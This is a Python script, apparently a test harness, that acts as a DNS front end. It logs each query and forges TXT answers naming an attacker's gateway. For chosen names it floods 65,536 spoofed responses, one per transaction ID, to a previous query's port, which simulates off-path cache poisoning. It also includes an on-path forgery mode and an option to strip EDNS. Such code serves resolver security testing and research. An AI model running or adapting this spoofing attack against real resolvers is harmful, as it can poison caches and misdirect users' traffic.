#!/usr/bin/env python3
# attack_dns.py - a resolver before a name server, in whose name answers are forged
#
# Each question is noted as "PORT ID TYPE EDNS NAME".  Questions for a name
# of --guess or --forge are answered with a TXT record that names a gateway of the
# forger's: by every ID to the port of the question before, as somebody who is
# not on the path and believes that ports stay; or, the control, as only the
# resolver can.  Names that end in --silent get no answer.  Other questions go to the name server.
import argparse
import socket
import struct


def question_end(data):
    at = 12
    while data[at]:
        at += data[at] + 1
    return at + 5


def name_of(data):
    at, labels = 12, []
    while data[at]:
        labels.append(data[at + 1:at + 1 + data[at]].decode())
        at += data[at] + 1
    return ".".join(labels)


def forged(data, text):
    """The answer but for its ID."""
    strings = b"".join(bytes([len(text[i:i + 255])]) + text[i:i + 255]
                       for i in range(0, len(text), 255))
    return (struct.pack("!HHHHH", 0x81a0, 1, 1, 0, 0) +
            data[12:question_end(data)] + b"\xc0\x0c" +
            struct.pack("!HHIH", 16, 1, 3600, len(strings)) + strings)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--address", required=True)
    p.add_argument("--server", type=int, required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--text", default="")
    p.add_argument("--guess", default="")
    p.add_argument("--forge", default="")
    p.add_argument("--silent", default="-")
    p.add_argument("--no-edns", action="store_true")
    a = p.parse_args()
    front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    front.bind((a.address, 53))
    before = None
    with open(a.log, "a", buffering=1, encoding="ascii") as log:
        while True:
            data, peer = front.recvfrom(65535)
            qtype = struct.unpack_from("!H", data, question_end(data) - 4)[0]
            edns = data[11] != 0
            name = name_of(data)
            print(peer[1], data[:2].hex(), qtype, "edns" if edns else "plain",
                  name, file=log)
            if name.endswith(a.silent):
                continue
            if name == a.guess:
                if before is not None and qtype == 16:
                    rest = forged(data, a.text.encode())
                    for i in range(65536):
                        front.sendto(struct.pack("!H", i) + rest, before)
                    print("sent 65536 to port", before[1], file=log)
                continue
            before = peer
            if name == a.forge and qtype == 16:
                front.sendto(data[:2] + forged(data, a.text.encode()), peer)
                continue
            if a.no_edns and edns:
                front.sendto(data[:2] + b"\x81\x81" + data[4:10] + b"\0\0" +
                             data[12:question_end(data)], peer)
                continue
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as back:
                back.settimeout(2)
                back.sendto(data, ("127.0.0.1", a.server))
                try:
                    front.sendto(back.recv(65535), peer)
                except socket.timeout:
                    pass


if __name__ == "__main__":
    main()
